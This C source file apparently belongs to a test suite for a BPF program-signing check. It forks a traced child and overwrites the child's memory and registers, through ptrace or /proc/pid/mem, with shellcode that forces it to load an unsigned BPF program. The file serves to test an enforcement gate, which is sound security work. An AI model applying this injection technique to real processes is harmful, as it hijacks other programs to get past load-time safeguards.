// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * inject.c - has a process load an unsigned program that it didn't mean to load.
 */
#include "inject.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "insn.h"

/* exit(-bpf(BPF_PROG_LOAD, rsi, rdx)), with the registers as they are set below. */
static const unsigned char code[] = {
	0x0f, 0x05,			/* syscall */
	0x48, 0xf7, 0xd8,		/* neg rax */
	0x89, 0xc7,			/* mov edi, eax */
	0xb8, 60, 0, 0, 0,		/* mov eax, SYS_exit */
	0x0f, 0x05,			/* syscall */
};

/* What the load names, below the process's stack. */
struct load {
	union bpf_attr attr;
	struct bpf_insn insns[2];
	char license[8];
};

int inject_by_ptrace(pid_t pid, unsigned long address, const void *data, size_t len)
{
	const char *bytes = data;
	size_t i;
	long word;

	for (i = 0; i < len; i += sizeof(word)) {
		size_t part = len - i < sizeof(word) ? len - i : sizeof(word);

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, address + i, NULL);
		if (errno)
			return -errno;
		memcpy(&word, bytes + i, part);
		if (ptrace(PTRACE_POKEDATA, pid, address + i, word))
			return -errno;
	}
	return 0;
}

int inject_by_proc_mem(pid_t pid, unsigned long address, const void *data, size_t len)
{
	char path[32];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	n = pwrite(fd, data, len, (off_t)address);
	close(fd);
	return n == (ssize_t)len ? 0 : -EIO;
}

static int put_load(pid_t pid, struct user_regs_struct *regs, inject_writer *write)
{
	unsigned long at = (regs->rsp - 4096) & ~15UL;
	struct load load = { .insns = { MOV_IMM(0, 1), EXIT() }, .license = "GPL" };
	int err;

	load.attr = gate_attr(BPF_PROG_TYPE_SOCKET_FILTER, "attack", NULL, 2);
	load.attr.insns = at + offsetof(struct load, insns);
	load.attr.license = at + offsetof(struct load, license);
	err = write(pid, at, &load, sizeof(load));
	if (!err)
		err = write(pid, regs->rip, code, sizeof(code));
	regs->rax = SYS_bpf;
	regs->rdi = BPF_PROG_LOAD;
	regs->rsi = at;
	regs->rdx = sizeof(load.attr);
	return err;
}

int inject(const char *path, inject_writer *write)
{
	struct user_regs_struct regs;
	pid_t pid = fork();
	int status;

	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		execl(path, path, NULL);
		_exit(200);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		return attack_broken("it doesn't stop");
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) || put_load(pid, &regs, write) ||
	    ptrace(PTRACE_SETREGS, pid, NULL, &regs) || ptrace(PTRACE_DETACH, pid, NULL, NULL))
		return attack_broken("it can't be written to");
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return attack_broken("it died");
	/* A descriptor, negated, is an exit code of 250 or so. */
	status = WEXITSTATUS(status);
	return status > 200 ? 0 : -status;
}
